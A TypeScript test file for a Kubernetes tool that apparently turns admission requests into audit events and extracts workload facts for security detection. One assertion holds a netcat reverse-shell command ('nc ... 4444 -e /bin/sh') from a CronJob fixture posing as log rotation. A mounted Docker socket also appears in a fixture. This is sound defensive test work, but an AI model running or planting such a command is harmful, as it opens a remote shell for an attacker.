import { describe, expect, it } from 'vitest';
import { parseAdmissionReviewJson } from '../../src/admission/review.js';
import { toAuditEvent } from '../../src/admission/to-audit-event.js';
import { normalize } from '../../src/normalize/index.js';
import { NOW, text } from './helpers.js';

const request = (f: string) => parseAdmissionReviewJson(text(f)).request;

describe('toAuditEvent', () => {
  it('renders a CREATE as the RequestResponse event the API server would log', () => {
    const r = request('cronjob-create-reverse-shell.json');
    const event = toAuditEvent(r, NOW);
    expect(event).toMatchObject({
      kind: 'Event',
      apiVersion: 'audit.k8s.io/v1',
      level: 'RequestResponse',
      verb: 'create',
      requestURI: '/apis/batch/v1/namespaces/ci/cronjobs',
      objectRef: { resource: 'cronjobs', namespace: 'ci', name: 'log-rotate', apiGroup: 'batch' },
      user: { username: 'system:serviceaccount:ci:deployer', extra: r.userInfo.extra },
      requestReceivedTimestamp: NOW.toISOString(),
      annotations: { 'authorization.k8s.io/decision': 'allow' },
    });
    // The object is passed through, not copied: admission latency is the budget.
    expect(event.requestObject).toBe(r.object);
    expect(event).not.toHaveProperty('stage');
    expect(event).not.toHaveProperty('responseStatus');
    expect(event).not.toHaveProperty('responseObject');
  });

  it('gives the normalizer everything it needs for the workload and actor facts', () => {
    const n = normalize(toAuditEvent(request('cronjob-create-reverse-shell.json'), NOW));
    expect(n.facts.action).toMatchObject({
      verb: 'create',
      code: null,
      decision: 'allow',
      denied: false,
      failed: false,
      bodySource: 'requestObject',
      bodyMissingReason: null,
    });
    expect(n.facts.actor).toMatchObject({
      type: 'serviceaccount',
      serviceAccountNamespace: 'ci',
      podName: 'build-runner-7c9d8f6b5-x2kqp',
      impersonated: false,
    });
    expect(n.facts.workload).toMatchObject({ kind: 'CronJob', schedule: '*/5 * * * *' });
    expect(n.facts.workload!.commands).toContain('nc 203.0.113.66 4444 -e /bin/sh');
  });

  it('renders an UPDATE of a core-group object with the new object as the body', () => {
    const r = request('pod-update-hostpath-docker-sock.json');
    const event = toAuditEvent(r, NOW);
    expect(event.verb).toBe('update');
    expect(event.requestURI).toBe('/api/v1/namespaces/shop/pods/web-debug');
    expect(event.objectRef).toEqual({
      resource: 'pods',
      namespace: 'shop',
      name: 'web-debug',
      apiVersion: 'v1',
    });
    expect(normalize(event).facts.workload!.runtimeSockets).toContain('docker');
  });

  it('records a dry run in the request URI, as the client sent it', () => {
    expect(toAuditEvent(request('cronjob-create-dry-run.json'), NOW).requestURI).toBe(
      '/apis/batch/v1/namespaces/ci/cronjobs?dryRun=All',
    );
  });
});
